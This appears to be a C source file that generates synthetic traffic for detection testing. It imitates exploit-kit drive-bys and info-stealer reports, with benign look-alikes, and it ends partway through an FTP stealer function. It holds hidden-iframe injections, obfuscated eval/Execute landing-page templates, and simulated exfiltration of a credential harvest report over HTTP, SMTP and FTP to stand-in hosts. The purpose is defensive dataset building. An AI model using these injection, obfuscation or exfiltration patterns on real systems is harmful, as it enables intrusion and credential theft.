/*
 * attackgen_web.c - scenarios of web drive-bys and information stealers,
 * crafted from the published descriptions of their traffic (exploit-kit
 * write-ups of RIG, Angler, Neutrino, Magnitude, Nuclear; stealer
 * write-ups of AgentTesla, LokiBot, Pony, AZORult): the steps and shapes,
 * with our own names, addresses and contents. And the ordinary traffic
 * that looks most like them.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "attackgen.h"

#define IE_UA "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"

/* Reproducible bytes (xorshift), apart from the generator's own sequence. */
static uint32_t xs = 2463534242u;
static uint32_t xrand(void)
{
    xs ^= xs << 13;
    xs ^= xs >> 17;
    xs ^= xs << 5;
    return xs;
}

static void random_bytes(uint8_t *o, size_t n)
{
    for (size_t i = 0; i < n; i++)
        o[i] = (uint8_t)(xrand() >> 11);
}

static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static size_t base64(char *o, const uint8_t *d, size_t n)
{
    size_t k = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)d[i] << 16 | (i + 1 < n ? (uint32_t)d[i + 1] << 8 : 0) |
                     (i + 2 < n ? d[i + 2] : 0);
        o[k++] = b64[v >> 18 & 63];
        o[k++] = b64[v >> 12 & 63];
        o[k++] = i + 1 < n ? b64[v >> 6 & 63] : '=';
        o[k++] = i + 2 < n ? b64[v & 63] : '=';
    }
    o[k] = 0;
    return k;
}

/* --- HTTP ---------------------------------------------------------------------- */

typedef struct web {
    const char *method, *host, *uri, *referer, *ua;
    const char *req_ctype;
    const void *req_body;
    size_t req_len;
    int status;                 /* 0: 200 */
    const char *location;
    const void *body;
    size_t blen;
    const char *ctype;          /* NULL: none */
} web;

static uint16_t next_port = 51000;

/* One request and its answer on a connection of their own. */
static void exchange(addr c, addr s, const web *w)
{
    static char h[4096];
    tconn t;
    tc_open(&t, c, next_port++, s, 80);
    int n = snprintf(h, sizeof h, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n",
                     w->method ? w->method : "GET", w->uri, w->host, w->ua ? w->ua : IE_UA);
    if (w->referer)
        n += snprintf(h + n, sizeof h - (size_t)n, "Referer: %s\r\n", w->referer);
    if (w->req_body)
        n += snprintf(h + n, sizeof h - (size_t)n, "Content-Type: %s\r\nContent-Length: %zu\r\n",
                      w->req_ctype ? w->req_ctype : "application/octet-stream", w->req_len);
    n += snprintf(h + n, sizeof h - (size_t)n, "\r\n");
    tc_send(&t, 0, h, (size_t)n);
    if (w->req_body)
        tc_send(&t, 0, w->req_body, w->req_len);
    int st = w->status ? w->status : 200;
    n = snprintf(h, sizeof h, "HTTP/1.1 %d %s\r\n", st,
                 st == 200 ? "OK" : st == 302 ? "Found" : st == 204 ? "No Content"
                 : st == 404 ? "Not Found" : "Other");
    if (w->ctype)
        n += snprintf(h + n, sizeof h - (size_t)n, "Content-Type: %s\r\n", w->ctype);
    if (w->location)
        n += snprintf(h + n, sizeof h - (size_t)n, "Location: %s\r\n", w->location);
    n += snprintf(h + n, sizeof h - (size_t)n, "Content-Length: %zu\r\n\r\n", w->blen);
    tc_send(&t, 1, h, (size_t)n);
    if (w->blen)
        tc_send(&t, 1, w->body, w->blen);
    tc_close(&t);
}

/* --- exploit-kit contents -------------------------------------------------------- */

/* A page of an ordinary site, with what was injected into it. */
static size_t site_page(char *o, size_t on, const char *injected)
{
    int n = snprintf(o, on,
                     "<!DOCTYPE html>\n<html><head><title>Garden notes</title>\n"
                     "<link rel=\"stylesheet\" href=\"/css/site.css\"></head>\n<body>\n"
                     "<h1>Planting tomatoes in May</h1>\n"
                     "<p>Start with a sunny spot and well-drained soil. Water in the morning, "
                     "and give each plant a stake before it needs one.</p>\n"
                     "<p>Read more in our <a href=\"/archive/\">archive</a>.</p>\n%s\n"
                     "</body></html>\n", injected);
    return (size_t)n < on ? (size_t)n : on - 1;
}

/* A landing page in the way the write-ups show them: one long encoded
 * string and a small decoder that reverses, splits and rebuilds it, the
 * call hidden behind a computed name. */
static size_t landing_encoded(char *o, size_t on, size_t strlen_)
{
    static const char alpha[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    size_t k = (size_t)snprintf(o, on, "<html><head></head><body>\n<script>\nvar kq5 = \"");
    for (size_t i = 0; i < strlen_ && k + 1 < on; i++)
        o[k++] = alpha[xrand() % 36];
    k += (size_t)snprintf(o + k, on - k,
                          "\";\nvar dd = kq5.split(\"\").reverse().join(\"\");\nvar out = \"\";\n"
                          "for (var i = 0; i < dd.length; i += 2) {\n"
                          "  out += String.fromCharCode(parseInt(dd.substr(i, 2), 36) ^ 17);\n}\n"
                          "window[\"ev\" + \"al\"](out);\n</script>\n</body></html>\n");
    return k;
}

/* A landing page with VBScript (the Internet Explorer exploit of 2018),
 * its bytes hidden in a hex string. */
static size_t landing_vbscript(char *o, size_t on)
{
    size_t k = (size_t)snprintf(o, on,
                                "<html><head><meta http-equiv=\"x-ua-compatible\" content=\"IE=10\">"
                                "</head><body>\n<script language=\"vbscript\">\nDim hx\nhx = \"");
    for (size_t i = 0; i < 3000 && k + 1 < on; i++)
        o[k++] = "0123456789ABCDEF"[xrand() % 16];
    k += (size_t)snprintf(o + k, on - k,
                          "\"\nDim s, i\nFor i = 1 To Len(hx) Step 2\n"
                          "  s = s & Chr(CLng(\"&H\" & Mid(hx, i, 2)))\nNext\n"
                          "Execute s\n</script>\n</body></html>\n");
    return k;
}

/* A landing page whose script is escape sequences, decoded and run. */
static size_t landing_escaped(char *o, size_t on)
{
    size_t k = (size_t)snprintf(o, on, "<html><body><script>\nvar p = '");
    for (size_t i = 0; i < 1500 && k + 5 < on; i++)
        k += (size_t)snprintf(o + k, on - k, "\\x%02x", 0x20 + xrand() % 90);
    k += (size_t)snprintf(o + k, on - k,
                          "';\nvar q = unescape(p.replace(/\\\\x/g, '%%'));\neval(q);\n"
                          "</script></body></html>\n");
    return k;
}

/* A PNG picture tshark reads: signature, IHDR, one IDAT of n bytes of
 * noise, IEND, with their CRCs. */
static size_t png_chunk(uint8_t *o, const char *type, const uint8_t *d, size_t n)
{
    o[0] = (uint8_t)(n >> 24), o[1] = (uint8_t)(n >> 16), o[2] = (uint8_t)(n >> 8), o[3] = (uint8_t)n;
    memcpy(o + 4, type, 4);
    if (n)
        memcpy(o + 8, d, n);
    uLong crc = crc32(0, o + 4, (uInt)(n + 4));
    o[8 + n] = (uint8_t)(crc >> 24), o[9 + n] = (uint8_t)(crc >> 16);
    o[10 + n] = (uint8_t)(crc >> 8), o[11 + n] = (uint8_t)crc;
    return n + 12;
}

static size_t png(uint8_t *o, size_t n)
{
    static const uint8_t ihdr[13] = {0, 0, 0, 64, 0, 0, 0, 64, 8, 2, 0, 0, 0};
    static uint8_t noise[65536];
    memcpy(o, "\x89PNG\r\n\x1a\n", 8);
    size_t k = 8 + png_chunk(o + 8, "IHDR", ihdr, sizeof ihdr);
    random_bytes(noise, n);
    k += png_chunk(o + k, "IDAT", noise, n);
    return k + png_chunk(o + k, "IEND", NULL, 0);
}

static size_t flash(uint8_t *o, size_t n)
{
    memcpy(o, "CWS\x0d", 4);
    random_bytes(o + 4, n - 4);
    return n;
}

/* --- exploit kits ------------------------------------------------------------------ */

void sc_ek_rig(void)
{
    /* RIG as described 2016-2018: a hidden iframe in a compromised page
     * leads to a landing on a bare address with long query-string URLs;
     * an obfuscated landing, Flash, then an RC4-encrypted payload the
     * server calls a program */
    static char page[4096], land[16384];
    static uint8_t swf[20000], pay[60000];
    addr pc = *lan_host(120), site = A4(93, 184, 220, 15), ek = A4(188, 225, 36, 90);
    const char *lurl = "/?MzQ1NTY3&qWerTy=cGhvbmU&oq=4rUSjbXMmFdj&yus=sT3ZtLmNvbQ&tuto=NzQ4";
    char ifr[512], ref[256];
    snprintf(ifr, sizeof ifr,
             "<iframe src=\"http://188.225.36.90%s\" width=\"1\" height=\"1\" "
             "style=\"visibility:hidden\"></iframe>", lurl);
    size_t pn = site_page(page, sizeof page, ifr);
    exchange(pc, site, &(web){.host = "www.garden-notes.example.net", .uri = "/",
                              .body = page, .blen = pn, .ctype = "text/html; charset=utf-8"});
    now_us += SEC;
    size_t ln = landing_encoded(land, sizeof land, 6000);
    exchange(pc, ek, &(web){.host = "188.225.36.90", .uri = lurl,
                            .referer = "http://www.garden-notes.example.net/",
                            .body = land, .blen = ln, .ctype = "text/html"});
    now_us += 2 * SEC;
    snprintf(ref, sizeof ref, "http://188.225.36.90%s", lurl);
    exchange(pc, ek, &(web){.host = "188.225.36.90",
                            .uri = "/?NDc2MjE5&dGhpcw=cmV0dXJu&oq=xYz3KeWq&biw=c2Vjb25k",
                            .referer = ref, .body = swf, .blen = flash(swf, sizeof swf),
                            .ctype = "application/x-shockwave-flash"});
    now_us += 4 * SEC;
    random_bytes(pay, sizeof pay);
    exchange(pc, ek, &(web){.host = "188.225.36.90",
                            .uri = "/?OTk0MzIx&cGF5bG9hZA=ZXhl&oq=Jd8cKq2w&tuto=MTg5",
                            .body = pay, .blen = sizeof pay, .ctype = "application/x-msdownload"});
}

void sc_ek_vbscript(void)
{
    /* a script-only kit (RIG and Magnitude after Flash, 2018-2019): a
     * malvertising gate answers with a redirect, the landing carries a
     * VBScript exploit, the payload is encrypted yet declared a program;
     * no Flash, Java or Silverlight at all */
    static char page[4096], land[16384];
    static uint8_t pay[50000];
    addr pc = *lan_host(121), site = A4(93, 184, 220, 16), gate = A4(5, 45, 79, 12),
         ek = A4(45, 77, 65, 211);
    size_t pn = site_page(page, sizeof page,
                          "<script src=\"http://ads-rotator.example.club/go.php?z=4417\"></script>");
    exchange(pc, site, &(web){.host = "www.local-news.example.org", .uri = "/2024/05/market.html",
                              .body = page, .blen = pn, .ctype = "text/html"});
    now_us += SEC;
    exchange(pc, gate, &(web){.host = "ads-rotator.example.club", .uri = "/go.php?z=4417",
                              .referer = "http://www.local-news.example.org/2024/05/market.html",
                              .status = 302,
                              .location = "http://qk7r2.fastline.example.top/jx?v=8812&k=d2luZG93"});
    now_us += SEC;
    size_t ln = landing_vbscript(land, sizeof land);
    exchange(pc, ek, &(web){.host = "qk7r2.fastline.example.top", .uri = "/jx?v=8812&k=d2luZG93",
                            .body = land, .blen = ln, .ctype = "text/html"});
    now_us += 3 * SEC;
    random_bytes(pay, sizeof pay);
    exchange(pc, ek, &(web){.host = "qk7r2.fastline.example.top", .uri = "/jx?v=8813&p=1",
                            .ua = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
                            .body = pay, .blen = sizeof pay, .ctype = "application/x-msdownload"});
}

void sc_ek_xor(void)
{
    /* Magnitude and Nuclear as described: a landing made of escape
     * sequences on a fresh host, then the program XOR-encoded with a short
     * key and served as an opaque download */
    static char page[4096], land[16384];
    static uint8_t pay[40000];
    static const uint8_t key[4] = {0x6b, 0x33, 0x59, 0x39};
    addr pc = *lan_host(122), site = A4(93, 184, 220, 17), ek = A4(109, 236, 85, 44);
    size_t pn = site_page(page, sizeof page,
                          "<script>document.write('<iframe src=\"http://a93d1be0.example.space/' + "
                          "'\" width=0 height=0></iframe>');</script>");
    exchange(pc, site, &(web){.host = "www.bakery-shop.example.com", .uri = "/menu",
                              .body = page, .blen = pn, .ctype = "text/html"});
    now_us += SEC;
    size_t ln = landing_escaped(land, sizeof land);
    exchange(pc, ek, &(web){.host = "a93d1be0.example.space", .uri = "/",
                            .referer = "http://www.bakery-shop.example.com/menu",
                            .body = land, .blen = ln, .ctype = "text/html"});
    now_us += 5 * SEC;
    size_t n = fake_pe(pay, sizeof pay);
    for (size_t i = 0; i < n; i++)
        pay[i] ^= key[i % 4];
    exchange(pc, ek, &(web){.host = "a93d1be0.example.space", .uri = "/7dd4c3a1e0f8",
                            .body = pay, .blen = n, .ctype = "application/octet-stream"});
}

void sc_ek_plugin(void)
{
    /* a kit whose landing is plain (no obfuscation, no known URL shape):
     * a page loading Flash from a fresh host the site's iframe led to; the
     * exploit itself comes over HTTPS (unseen), then the payload arrives
     * in clear, encrypted, as an opaque download */
    static char page[4096];
    static uint8_t pay[45000];
    static const char land[] =
        "<html><body><object classid=\"clsid:d27cdb6e-ae6d-11cf-96b8-444553540000\" "
        "width=\"300\" height=\"200\"><param name=\"movie\" "
        "value=\"https://static-9f2.example.win/m/f.swf\"/><param name=\"allowScriptAccess\" "
        "value=\"always\"/><embed type=\"application/x-shockwave-flash\" "
        "src=\"https://static-9f2.example.win/m/f.swf\" width=\"300\" height=\"200\"/>"
        "</object></body></html>";
    addr pc = *lan_host(132), site = A4(93, 184, 220, 18), ek = A4(217, 12, 218, 40);
    size_t pn = site_page(page, sizeof page,
                          "<iframe src=\"http://pond.lilytrade.example.win/tag/3271.html\" "
                          "width=\"1\" height=\"1\"></iframe>");
    exchange(pc, site, &(web){.host = "www.fishing-club.example.org", .uri = "/events",
                              .body = page, .blen = pn, .ctype = "text/html"});
    now_us += SEC;
    exchange(pc, ek, &(web){.host = "pond.lilytrade.example.win", .uri = "/tag/3271.html",
                            .referer = "http://www.fishing-club.example.org/events",
                            .body = land, .blen = sizeof land - 1, .ctype = "text/html"});
    now_us += 6 * SEC;
    random_bytes(pay, sizeof pay);
    exchange(pc, ek, &(web){.host = "pond.lilytrade.example.win", .uri = "/tag/3271.bin",
                            .body = pay, .blen = sizeof pay, .ctype = "application/octet-stream"});
}

void sc_news_benign(void)
{
    /* benign: a news site over plain HTTP pulling minified scripts, fonts,
     * pictures, JSON and a video segment from many hosts new to the PC,
     * each with the page as Referer; an inline picture as a data: URI */
    static char page[16384], js[24000], json[8192];
    static uint8_t pic[6100], font[9000], video[70000], inl[2400];
    addr pc = *lan_host(123), site = A4(151, 101, 2, 10);
    const char *ref = "http://www.daily-news.example.com/";
    size_t k = (size_t)snprintf(page, sizeof page,
                                "<!DOCTYPE html><html><head><title>Daily News</title>"
                                "<script src=\"http://cdn1.news-static.example.net/app.min.js\"></script>"
                                "</head><body><img alt=\"logo\" src=\"data:image/png;base64,");
    random_bytes(inl, sizeof inl);
    k += base64(page + k, inl, sizeof inl);
    for (int i = 0; i < 30; i++)
        k += (size_t)snprintf(page + k, sizeof page - k,
                              "\"><div class=\"story\"><h2>Headline %d</h2><p>City council "
                              "approves the new budget for parks and schools.</p></div><img src=\"x",
                              i);
    k += (size_t)snprintf(page + k, sizeof page - k, "\"></body></html>");
    exchange(pc, site, &(web){.host = "www.daily-news.example.com", .uri = "/", .body = page,
                              .blen = k, .ctype = "text/html; charset=utf-8"});
    /* a minified library: short names, short strings, the usual calls */
    k = 0;
    for (int i = 0; k + 400 < sizeof js; i++)
        k += (size_t)snprintf(js + k, sizeof js - k,
                              "function a%d(b,c){var d=b.split(\",\"),e=0;for(;e<d.length;e++)"
                              "d[e]=String.fromCharCode(parseInt(d[e],10)^c);return d.join(\"\")"
                              ".replace(/\\s+/g,\" \")}var f%d=a%d(\"72,101,108,108,111\",%d),"
                              "g%d=document.createElement(\"div\");g%d.textContent=f%d.charCodeAt(0);",
                              i, i, i, i % 7, i, i, i);
    static const struct {
        const char *host, *uri, *ctype;
        int what;
    } assets[] = {
        {"cdn1.news-static.example.net", "/app.min.js", "application/javascript", 0},
        {"img.news-static.example.net", "/photos/top.png", "image/png", 1},
        {"fonts.news-static.example.net", "/f/sans.woff2", "font/woff2", 2},
        {"api.news-static.example.net", "/v2/stories?limit=20", "application/json", 3},
        {"video.news-cdn.example.org", "/seg/0001.mp4", "video/mp4", 4},
        {"ads.news-partner.example.com", "/slot.js", "application/javascript", 0},
        {"metrics.news-partner.example.com", "/pixel.gif", "image/gif", 5},
        {"cdn2.news-static.example.net", "/vendor.min.js", "application/javascript", 0},
        {"player.video-host.example.com", "/embed/player.js", "application/javascript", 6},
    };
    for (size_t i = 0; i < sizeof assets / sizeof assets[0]; i++) {
        const void *body = js;
        size_t bl = k;
        switch (assets[i].what) {
        case 1:
            body = pic, bl = png(pic, 6000);
            break;
        case 2:
            memcpy(font, "wOF2", 4);
            random_bytes(font + 4, sizeof font - 4);
            body = font, bl = sizeof font;
            break;
        case 3: {
            size_t j = (size_t)snprintf(json, sizeof json, "{\"items\":[{\"id\":1,\"thumb\":\"");
            j += base64(json + j, inl, 1500);
            j += (size_t)snprintf(json + j, sizeof json - j, "\"}]}");
            body = json, bl = j;
            break;
        }
        case 4:
            memcpy(video, "\0\0\0\x18" "ftypmp42", 12);
            random_bytes(video + 12, sizeof video - 12);
            body = video, bl = sizeof video;
            break;
        case 5: {
            static const uint8_t gif[] = {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0x80, 0, 0,
                                          0, 0, 0, 0xff, 0xff, 0xff, ';'};
            body = gif, bl = sizeof gif;
            break;
        }
        case 6: {
            /* a player packed the old way: eval of a function that puts a
             * word list ('|'-joined) back into its code */
            static char packed[8192];
            size_t j = (size_t)snprintf(packed, sizeof packed,
                "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
                "while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}"
                "return p}('0 1=2.3(\"4\");5(1){1.6=7;1.8(\"9\",a)}', 36, 400, '");
            for (int w = 0; w < 400 && j + 40 < sizeof packed; w++)
                j += (size_t)snprintf(packed + j, sizeof packed - j, "%sw%dx%c", w ? "|" : "",
                                      w, 'a' + w % 26);
            j += (size_t)snprintf(packed + j, sizeof packed - j, "'.split('|'),0,{}))\n");
            body = packed, bl = j;
            break;
        }
        default:
            break;
        }
        now_us += 200000;
        exchange(pc, A4(151, 101, 3, (int)(20 + i)),
                 &(web){.host = assets[i].host, .uri = assets[i].uri, .referer = ref,
                        .body = body, .blen = bl, .ctype = assets[i].ctype});
    }
}

void sc_download_benign(void)
{
    /* benign: a vendor's page, then its download host (new to the PC, the
     * page as Referer) serves the installer and an encrypted data pack */
    static char page[4096];
    static uint8_t pe[40000], pack[30000];
    addr pc = *lan_host(124);
    size_t pn = site_page(page, sizeof page,
                          "<a href=\"http://dl.vendor-cdn.example.net/setup.exe\">Download</a>");
    exchange(pc, A4(93, 184, 220, 30), &(web){.host = "www.vendor.example.com", .uri = "/download",
                                               .body = page, .blen = pn, .ctype = "text/html"});
    now_us += 4 * SEC;
    const char *ref = "http://www.vendor.example.com/download";
    exchange(pc, A4(93, 184, 220, 31),
             &(web){.host = "dl.vendor-cdn.example.net", .uri = "/setup.exe", .referer = ref,
                    .body = pe, .blen = fake_pe(pe, sizeof pe), .ctype = "application/octet-stream"});
    now_us += 2 * SEC;
    random_bytes(pack, sizeof pack);
    exchange(pc, A4(93, 184, 220, 31),
             &(web){.host = "dl.vendor-cdn.example.net", .uri = "/data/en-us.pak", .referer = ref,
                    .body = pack, .blen = sizeof pack, .ctype = "application/octet-stream"});
}

/* --- stealers over HTTP ------------------------------------------------------------- */

void sc_stealer_http(void)
{
    /* a stealer without a known mark (AZORult and Raccoon as described):
     * base64 of encrypted data POSTed to a PHP gate on a bare address
     * every 90 s, the panel answering two bytes */
    static uint8_t raw[300];
    static char body[600];
    addr pc = *lan_host(125), c2 = A4(91, 92, 109, 12);
    for (int i = 0; i < 4; i++) {
        random_bytes(raw, sizeof raw);
        size_t n = (size_t)snprintf(body, sizeof body, "data=");
        n += base64(body + n, raw, sizeof raw);
        exchange(pc, c2, &(web){.method = "POST", .host = "91.92.109.12", .uri = "/panel/gate.php",
                                .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                .req_ctype = "application/x-www-form-urlencoded",
                                .req_body = body, .req_len = n, .body = "OK", .blen = 2,
                                .ctype = "text/html"});
        now_us += 90 * SEC;
    }
}

void sc_stealer_lokibot(void)
{
    /* LokiBot as described: binary reports POSTed to .../fre.php with its
     * own user agent, the panel answering "File not found." */
    static uint8_t body[400];
    addr pc = *lan_host(126), c2 = A4(185, 61, 154, 21);
    for (int i = 0; i < 2; i++) {
        random_bytes(body, sizeof body);
        body[0] = 0x12, body[1] = 0x00, body[2] = 0x27, body[3] = 0x00;
        memcpy(body + 40, "c\0k\0a\0v\0.\0r\0u\0", 14);
        memcpy(body + 60, "ckav.ru", 7);
        exchange(pc, c2, &(web){.method = "POST", .host = "kbfvzoboss.example.bid",
                                .uri = "/chief/five/fre.php", .ua = "Mozilla/4.08 (Charon; Inferno)",
                                .req_body = body, .req_len = sizeof body, .status = 404,
                                .body = "File not found.", .blen = 15, .ctype = "text/html"});
        now_us += 2 * SEC;
    }
}

void sc_upload_benign(void)
{
    /* benign: certificate checks (OCSP: DER requests, again and again), an
     * app SDK posting binary statistics to its vendor's PHP endpoint, and
     * a web application's JSON telemetry every minute */
    /* OCSPRequest { TBSRequest { requestList { Request { CertID { sha1,
     * issuer name hash, issuer key hash, serial } } } } } and an answer
     * with a status only */
    static uint8_t der[83] = {0x30, 0x51, 0x30, 0x4f, 0x30, 0x4d, 0x30, 0x4b, 0x30, 0x49,
                              0x30, 0x09, 0x06, 0x05, 0x2b, 0x0e, 0x03, 0x02, 0x1a, 0x05, 0x00,
                              0x04, 0x14};
    static const uint8_t resp[] = {0x30, 0x03, 0x0a, 0x01, 0x06};
    static uint8_t sdk[300];
    static char json[256];
    addr pc = *lan_host(127);
    random_bytes(der + 23, 20);
    der[43] = 0x04, der[44] = 0x14;
    random_bytes(der + 45, 20);
    der[65] = 0x02, der[66] = 0x10;
    random_bytes(der + 67, 16);
    der[67] &= 0x7f;
    for (int i = 0; i < 6; i++) {
        exchange(pc, A4(93, 184, 220, 40),
                 &(web){.method = "POST", .host = "ocsp.example-ca.com", .uri = "/",
                        .ua = "Microsoft-CryptoAPI/10.0", .req_ctype = "application/ocsp-request",
                        .req_body = der, .req_len = sizeof der, .body = resp,
                        .blen = sizeof resp, .ctype = "application/ocsp-response"});
        now_us += 20 * SEC;
        random_bytes(sdk, sizeof sdk);
        exchange(pc, A4(93, 184, 220, 41),
                 &(web){.method = "POST", .host = "stats.example-sdk.com", .uri = "/api/upload.php",
                        .ua = "Dalvik/2.1.0 (Linux; U; Android 11)", .req_body = sdk,
                        .req_len = sizeof sdk, .body = "", .blen = 0});
        size_t n = (size_t)snprintf(json, sizeof json,
                                    "{\"event\":\"heartbeat\",\"seq\":%d,\"page\":\"/orders\","
                                    "\"ms\":%u}", i, 100 + xrand() % 900);
        exchange(pc, A4(93, 184, 220, 42),
                 &(web){.method = "POST", .host = "telemetry.example-saas.com",
                        .uri = "/v1/collect.php", .req_ctype = "application/json",
                        .req_body = json, .req_len = n, .status = 204});
        now_us += 40 * SEC;
    }
}

/* --- stealers by mail and FTP -------------------------------------------------------- */

/* The report a stealer writes about the machine and what it took (as the
 * AgentTesla write-ups show its layout; our own values). */
static const char harvest_html[] =
    "<html>Time: 05/14/2024 10:12:33<br>User Name: jsmith<br>Computer Name: DESKTOP-7H2K9QF<br>"
    "OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel(R) Core(TM) i5-8250U CPU @ 1.60GHz<br>"
    "RAM: 8072.39 MB<br>IP Address: 203.0.113.77<br><hr>URL: http://mail.example.co.jp/<br>"
    "Username: jsmith@example.co.jp<br>Password: Summer2024!<br>Application: Outlook<br><hr>"
    "URL: https://bank.example.com/login<br>Username: jsmith<br>Password: Tomato#88<br>"
    "Application: Chrome<br><hr></html>";

/* An SMTP submission: greeting, EHLO, AUTH LOGIN, one message. */
static void smtp_send(addr c, addr s, const char *banner, const char *from, const char *to,
                      const char *msg)
{
    static const char *const dialog[][2] = {
        {NULL, NULL}, {"EHLO DESKTOP-PC\r\n", "250-smtp\r\n250-AUTH LOGIN PLAIN\r\n250 8BITMIME\r\n"},
        {"AUTH LOGIN\r\n", "334 VXNlcm5hbWU6\r\n"}, {"dXNlcg==\r\n", "334 UGFzc3dvcmQ6\r\n"},
        {"cGFzcw==\r\n", "235 2.7.0 Authentication successful\r\n"},
    };
    char l[512];
    tconn t;
    tc_open(&t, c, next_port++, s, 587);
    int n = snprintf(l, sizeof l, "220 %s\r\n", banner);
    tc_send(&t, 1, l, (size_t)n);
    for (size_t i = 1; i < sizeof dialog / sizeof dialog[0]; i++) {
        tc_send(&t, 0, dialog[i][0], strlen(dialog[i][0]));
        tc_send(&t, 1, dialog[i][1], strlen(dialog[i][1]));
    }
    n = snprintf(l, sizeof l, "MAIL FROM:<%s>\r\n", from);
    tc_send(&t, 0, l, (size_t)n);
    tc_send(&t, 1, "250 2.1.0 Ok\r\n", 14);
    n = snprintf(l, sizeof l, "RCPT TO:<%s>\r\n", to);
    tc_send(&t, 0, l, (size_t)n);
    tc_send(&t, 1, "250 2.1.5 Ok\r\n", 14);
    tc_send(&t, 0, "DATA\r\n", 6);
    tc_send(&t, 1, "354 Go ahead\r\n", 14);
    tc_send(&t, 0, msg, strlen(msg));
    tc_send(&t, 0, "\r\n.\r\n", 5);
    tc_send(&t, 1, "250 2.0.0 Ok: queued\r\n", 22);
    tc_send(&t, 0, "QUIT\r\n", 6);
    tc_send(&t, 1, "221 2.0.0 Bye\r\n", 15);
    tc_close(&t);
}

/* base64 text in lines of 76, as mail carries it */
static size_t b64_lines(char *o, const void *d, size_t n)
{
    static char one[200000];
    size_t m = base64(one, d, n), k = 0;
    for (size_t i = 0; i < m; i += 76) {
        size_t l = m - i < 76 ? m - i : 76;
        memcpy(o + k, one + i, l);
        k += l;
        o[k++] = '\r';
        o[k++] = '\n';
    }
    o[k] = 0;
    return k;
}

void sc_stealer_smtp(void)
{
    /* AgentTesla by mail as described: the stealer logs in to a free mail
     * service's submission port and mails its report to its own account,
     * subject "PW_user/COMPUTER", the HTML report base64-encoded */
    static char msg[8192], body[4096];
    b64_lines(body, harvest_html, sizeof harvest_html - 1);
    snprintf(msg, sizeof msg,
             "MIME-Version: 1.0\r\nFrom: jsmith.logs2024@yandex.com\r\n"
             "To: jsmith.logs2024@yandex.com\r\nDate: 14 May 2024 10:12:35 +0900\r\n"
             "Subject: PW_jsmith/DESKTOP-7H2K9QF\r\n"
             "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s",
             body);
    smtp_send(*lan_host(128), A4(77, 88, 21, 158), "smtp.yandex.ru ESMTP ready",
              "jsmith.logs2024@yandex.com", "jsmith.logs2024@yandex.com", msg);
}

void sc_mail_benign(void)
{
    /* benign: a member of staff mails a report with a zipped attachment to
     * a customer's Gmail address, says the password comes separately, then
     * sends it (the Japanese office habit); all through Gmail's submission
     * port */
    static char msg[16384], att[8192];
    static uint8_t zip[3000];
    memcpy(zip, "PK\x03\x04", 4);
    random_bytes(zip + 4, sizeof zip - 4);
    b64_lines(att, zip, sizeof zip);
    snprintf(msg, sizeof msg,
             "MIME-Version: 1.0\r\nFrom: Tanaka <tanaka@example.co.jp>\r\n"
             "To: customer.sato@gmail.com\r\nSubject: Quarterly report\r\n"
             "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n"
             "Content-Type: text/plain; charset=utf-8\r\n\r\nDear Mr Sato,\r\n\r\n"
             "Please find the quarterly report attached. The password for the file will "
             "follow in a separate mail.\r\n\r\nBest regards,\r\nTanaka\r\n--b1\r\n"
             "Content-Type: application/zip; name=\"report_2024Q1.zip\"\r\n"
             "Content-Disposition: attachment; filename=\"report_2024Q1.zip\"\r\n"
             "Content-Transfer-Encoding: base64\r\n\r\n%s--b1--\r\n", att);
    addr pc = *lan_host(129), gm = A4(142, 250, 157, 109);
    smtp_send(pc, gm, "smtp.gmail.com ESMTP", "tanaka@example.co.jp",
              "customer.sato@gmail.com", msg);
    now_us += 30 * SEC;
    smtp_send(pc, gm, "smtp.gmail.com ESMTP", "tanaka@example.co.jp", "customer.sato@gmail.com",
              "From: Tanaka <tanaka@example.co.jp>\r\nTo: customer.sato@gmail.com\r\n"
              "Subject: Password\r\n\r\nPassword: Xk29#aP4\r\n\r\nTanaka\r\n");
}

/* An FTP session uploading files (passive mode), each on its own data
 * connection. */
static void ftp_upload(addr c, addr s, const char *user, const char *const *names,
                       const void *const *data, const size_t *lens, int n)
{
    char l[512];
    tconn t;
    tc_open(&t, c, next_port++, s, 21);
    tc_send(&t, 1, "220 FTP server ready\r\n", 22);
    int k = snprintf(l, sizeof l, "USER %s\r\n", user);
    tc_send(&t, 0, l, (size_t)k);
    tc_send(&t, 1, "331 Password required\r\n", 23);
    tc_send(&t, 0, "PASS hunter22\r\n", 15);
    tc_send(&t, 1, "230 Logged in\r\n", 15);
    tc_send(&t, 0, "TYPE I\r\n", 8);
    tc_send(&t, 1, "200 Type set to I\r\n", 19);
    for (int i = 0; i < n; i++) {
        uint16_t port = (uint16_t)(40100 + i);
        tc_send(&t, 0, "PASV\r\n", 6);
        k = snprintf(l, sizeof l, "227 Entering Passive Mode (%d,%d,%d,%d,%d,%d)\r\n", s.b[0],
                     s.b[1], s.b[2], s.b[3], port >> 8, port & 255);
        tc_send(&t, 1, l, (size_t)k);
        k = snprintf(l, sizeof l, "STOR %s\r\n", names[i]);
        tc_send(&t, 0, l, (size_t)k);
        tc_send(&t, 1, "150 Opening data connection\r\n", 29);
        tconn dt;
        tc_open(&dt, c, next_port++, s, port);
        tc_send(&dt, 0, data[i], lens[i]);
        tc_close(&dt);
        tc_send(&t, 1, "226 Transfer complete\r\n", 23);
    }
    tc_send(&t, 0, "QUIT\r\n", 6);
    tc_send(&t, 1, "221 Goodbye\r\n", 13);
    tc_close(&t);
}

void sc_stealer_ftp(void)
{
    /* AgentTesla by FTP as described: its report stored on a hosting
     * account, named with its tag, the user, the computer and the time */
    const char *names[] = {"PW_jsmith-DESKTOP-7H2K9QF_2024_05_14_10_12_33.html"};
    const void *data[] = {harvest_html};
    size_t lens[] = {sizeof harvest_html - 1};
